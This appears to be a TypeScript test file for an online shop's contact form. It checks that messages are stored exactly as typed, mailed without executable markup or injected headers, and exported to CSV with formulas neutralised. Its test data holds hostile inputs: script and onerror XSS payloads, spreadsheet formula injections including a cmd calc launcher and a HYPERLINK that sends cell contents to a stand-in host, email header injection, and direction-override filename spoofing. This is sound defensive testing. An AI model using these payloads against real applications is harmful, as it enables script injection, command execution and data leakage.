// @module-tag engines
import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import PostalMime, { type Email } from 'postal-mime'
import { expect } from 'vitest'
import { admin } from '../../../test/shop.ts'
import { test as shopTest } from '../../../test/shop-fixture.ts'
import type { ReceivedMessage } from '../../api/contact.ts'
import { endpoints } from '../../api/endpoints.ts'
import { m } from '../../messages/compiled/messages.js'

const cluster = 'நீ👩🏽‍🎤ஸ்ரீ\u200d'
const texts: Record<string, { name: string; message: string }> = {
  HTML: { name: '<script>alert(1)</script>', message: '<img src=x onerror=alert(1)>"\'&amp;<!-- -->]]>' },
  'a formula': { name: '=1+1', message: '=HYPERLINK("http://x.example?"&A1,"open")' },
  'a formula after plus': { name: "+cmd|' /C calc'!A0", message: "@SUM(1+1)*cmd|' /C calc'!A0" },
  'a formula after minus': { name: '-2+3', message: '\t=1+1' },
  'a formula in wide letters': { name: '＝1+1', message: '\r\n=1+1' },
  '5,000 characters of Tamil with emoji': { name: 'மீனாட்சி', message: [...cluster.repeat(800)].slice(0, 5000).join('') },
  'characters that change the writing direction': {
    name: 'Meena \u202egpj.exe\u202c',
    message: '\u202eesrever\u2066 mixed \u2069\u200f مرحبا',
  },
  'invisible characters': { name: 'M\u200be\u2060e\ufeffna', message: 'a\u200bb\u200cc\u200dd\u2063e\u00adf' },
  'lines that imitate those of the shop': {
    name: 'Meena',
    message: `Hello\n\n${m.mail_message_dashboard()}\n\nhttps://evil.example/admin\n.\r\nQUIT`,
  },
  'headers in a name': { name: 'a>, <victim@example.com', message: 'Bcc: victim@example.com\r\nSubject: won\r\n\r\nx' },
}
const email = 'meena@example.com'

const test = shopTest.extend('received', { scope: 'file' }, async ({ shop, owner }) => {
  for (const text of Object.values(texts)) {
    const answer = await shop.browser().ask(endpoints.sendContactMessage, { ...text, email })
    expect(answer.status, answer.errorCode).toBe(200)
    await owner.ask(endpoints.markContactMessage, { id: answer.body.id, folder: 'inbox' })
  }
  const messages: ReceivedMessage[] = (await owner.ask(endpoints.listContactMessages, {})).body.messages
  await shop.untilMailsSent()
  const folder = join(shop.dataDir, 'outbox')
  const mails = await Promise.all(
    (await readdir(folder)).map(async (name) => PostalMime.parse(await readFile(join(folder, name)))),
  )
  return { messages, mails }
})

const cases = Object.entries(texts)

test.for(cases)('%s is stored as it was typed', ([, { name, message }], { received: { messages } }) => {
  const found = messages.find((stored) => stored.message === message)
  expect(found && Buffer.from(`${found.name}\n${found.message}`)).toEqual(Buffer.from(`${name}\n${message}`))
})

test.for(cases)('%s is mailed as harmless text', ([, { message }], { received: { messages, mails } }) => {
  const { id } = messages.find((stored) => stored.message === message) as ReceivedMessage
  const mail = mails.find(({ messageId }) => messageId?.includes(id)) as Email
  expect(mail.to).toEqual([{ name: '', address: admin.email }])
  expect([mail.cc, mail.bcc, mail.replyTo?.map(({ address }) => address)]).toEqual([undefined, undefined, [email]])
  const hiddenCharacter = /[\p{Cc}\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u
  for (const text of [mail.subject, mail.replyTo?.[0]?.name]) expect(text).not.toMatch(hiddenCharacter)
  for (const { value } of mail.headers) expect(value.replace(/\s/g, '')).not.toMatch(hiddenCharacter)
  expect(mail.html).not.toMatch(/<(?:script|img)\b/)
  const ownLines = mail.text?.split(/\r?\n/).filter((line) => line && !line.startsWith('>')) ?? []
  expect(ownLines).toHaveLength(4)
  expect(ownLines.join()).not.toContain('evil')
  const quoted = mail.text?.split(/\r?\n/).filter((line) => line.startsWith('>')) ?? []
  expect(
    quoted
      .map((line) => line.slice(2))
      .join('\n')
      .trim(),
  ).toBe(
    message
      .split(/\r\n?|\n/)
      .join('\n')
      .trim(),
  )
})

test('the CSV export holds every message and no formula', async ({ owner, received }) => {
  const answer = await owner.fetch('/v1/contactMessages.csv')
  expect(answer.status).toBe(200)
  const bytes = Buffer.from(await answer.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const [head, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'))
  expect(head).toEqual(['Received', 'Name', 'Email', 'Message', 'Read', 'Answered'])
  expect(rows).toHaveLength(received.messages.length)
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
  for (const { name, message } of Object.values(texts)) {
    const row = rows.find((cells) => cells[3]?.replace(/^'/, '') === message)
    expect(row?.[1]?.replace(/^'/, ''), message).toBe(name)
  }
})

test('the CSV export neutralises every start of a formula', async ({ openShop }) => {
  const signs = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠']
  const behind = [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","y")',
    '"1+1',
    '1,=2',
    '1\r\n=2',
    "'=1",
    '\t=1',
  ]
  const before = ['', ' ', '"', '",', "'", ',', ';', '\n', '","=']
  const formulas = [
    ...signs.flatMap((sign) => behind.map((end) => sign + end)),
    ...before.map((start) => `${start}=1+1`),
  ]
  const otherShop = await openShop()
  const client = otherShop.browser()
  for (const message of formulas)
    await client.ask(endpoints.sendContactMessage, {
      name: /[\t\r\n]/.test(message) ? 'Meena' : message,
      email,
      message,
    })
  await otherShop.deps.db.updateTable('contactMessages').set({ spamTime: null }).execute()
  const answer = await (await otherShop.signIn(admin)).fetch('/v1/contactMessages.csv')
  const rows = parseCsv(await answer.text())
  expect(rows.length).toBeGreaterThan(0.9 * formulas.length)
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
  expect(new Set(rows.map((cells) => cells.length))).toEqual(new Set([6]))
})

function parseCsv(csv: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)?.push(String(quoted).replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}
